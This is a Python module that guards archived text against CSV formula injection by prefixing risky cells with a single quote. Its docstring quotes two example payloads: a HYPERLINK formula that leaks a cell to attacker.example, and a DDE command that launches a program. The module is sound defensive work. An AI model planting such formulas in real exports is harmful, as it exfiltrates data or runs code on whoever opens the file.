"""Archived text made harmless for a spreadsheet: a CSV cell that Excel, LibreOffice or Google Sheets would run as
a formula is written as text instead.

A tweet whose text is `=HYPERLINK("http://attacker.example/?leak="&A1, "click")` becomes a live formula when an
investigator opens an export, and a formula can send the sheet's other cells elsewhere or, through DDE
(`=cmd|' /C calc'!A0`), start a program. OWASP's guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection) names the cells to neutralise: those starting with `=`,
`+`, `-`, `@`, a tab or a carriage return, and the full-width forms `＝ ＋ － ＠` that East Asian input turns into
the ASCII ones. Its remedy is used here: a single quote `'` before the cell, which spreadsheets read as "this is
text".

What this module adds to OWASP's list, and why:

- A formula character after leading blanks (spaces, line ends, the ideographic space, other control and
  invisible format characters such as a byte-order mark or a zero-width space) counts as a start too: importers
  can trim blanks ("Trim spaces" in LibreOffice, Google Sheets on import) and so reach the `=` behind them.
- Any character whose compatibility form (Unicode NFKC) is one of `= + - @` counts, not only the four
  full-width ones: the small forms (`﹦ ﹢ ﹣ ﹫`) and the like fold to the same characters. So does the minus
  sign U+2212, which some spreadsheets read as a minus.
- A cell that is a plain number (`-77.03`, `+1`, `-1e5`) is left alone: a spreadsheet reads it as that number
  and runs nothing, and a `'` before a longitude would be wrong data. `-1+1` is not a plain number.

Writers call `spreadsheet_cell` only on text from the archive or from a user; numbers, times and labels the
project formats itself never pass through it. A byte-exact file (`--raw-cells` on the command line) skips it.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable

FORMULA_STARTS = frozenset("=+-@\u2212")
"""Characters that begin a formula, compared after NFKC (so `＝ ＋ － ＠` and `﹦ ﹢ ﹣ ﹫` are among them)."""

ALWAYS_NEUTRALISED = ("\t", "\r")
"""OWASP's other two starts: a cell opening with either is neutralised whatever follows."""

TEXT_MARK = "'"
"""What a neutralised cell starts with: spreadsheets take a leading single quote to mean text."""

_PLAIN_START = frozenset(map(chr, range(0x21, 0x7F))) - FORMULA_STARTS
"""First characters that settle a cell at once: printable ASCII that starts no formula (most cells)."""
_PLAIN_NUMBER = re.compile(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")
_BLANK_CATEGORIES = frozenset({"Zs", "Zl", "Zp", "Cc", "Cf"})


def spreadsheet_cell(text: str) -> str:
    """`text` as a CSV cell no spreadsheet will run: `'` before it when it would start a formula, else unchanged.

    Pure, and cheap for the common cell (its first character looked up once), since exports write millions."""
    if not text or text[0] in _PLAIN_START:
        return text
    if text.startswith(ALWAYS_NEUTRALISED):
        return TEXT_MARK + text
    first = _first_visible(text)
    if first is None or not _starts_formula(first):
        return text
    if _PLAIN_NUMBER.fullmatch(text):
        return text
    return TEXT_MARK + text


def spreadsheet_row(values: Iterable[str]) -> list[str]:
    """`spreadsheet_cell` of each value: the common cells settled inline, without a call each (an export's rows
    have dozens of cells, most of them empty or plainly text)."""
    return [value if not value or value[0] in _PLAIN_START else spreadsheet_cell(value) for value in values]


def _first_visible(text: str) -> str | None:
    """The first character that is not a blank, a control or an invisible format character; None if none is."""
    for char in text:
        if not (char.isspace() or unicodedata.category(char) in _BLANK_CATEGORIES):
            return char
    return None


def _starts_formula(char: str) -> bool:
    return char in FORMULA_STARTS or unicodedata.normalize("NFKC", char)[:1] in FORMULA_STARTS
